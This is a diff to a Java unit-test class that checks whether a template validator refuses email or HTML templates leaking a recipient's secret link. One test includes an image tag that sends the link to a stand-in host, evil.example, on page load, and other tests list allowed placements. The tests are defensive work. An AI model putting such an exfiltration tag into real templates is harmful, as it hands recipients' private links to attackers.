@@ -34,6 +34,40 @@ class HostileTemplateTest {
         refused(Templates.html(template));
     }
 
+    @ParameterizedTest
+    @HostileTemplates("telling-the-link.txt")
+    void tells_the_link_to_nobody_but_the_reader(String template) {
+        refused(Templates.html(template));
+    }
+
+    @ParameterizedTest
+    @HostileTemplates("telling-the-link-in-text.txt")
+    void tells_the_link_to_nobody_in_plain_text_either(String template) {
+        refused(Templates.text(template));
+        refused(Templates.html("<p>" + template + "</p>"));
+    }
+
+    @Test
+    void says_where_the_link_may_stand() {
+        assertThat(Templates.problems(Templates.html("<p>\n<img src=\"https://evil.example/?l=${link}\"></p>")))
+                .containsExactly("2:35 Who has this value is taken for the recipient: it may stand in a text, with a"
+                        + " blank before it, or be the whole address of a link, <a href=\"${link}\">; nowhere else.");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "Open ${link}.",
+                "<p>${link}</p>",
+                "<a href=\"${link}\">Open</a>",
+                "<a href='${ link }'>Open</a>",
+                "<a href=\"<#if words?has_content>${link}<#else>https://example.org/</#if>\">Open</a>",
+                "<a href=\"${link?has_content?then(link, link)}\">Open</a>",
+            })
+    void the_link_may_stand_where_the_reader_sees_it_or_clicks(String template) {
+        assertThat(Templates.problems(Templates.html(template))).isEmpty();
+    }
+
     @Nested
     class Given_limits {
         @Test
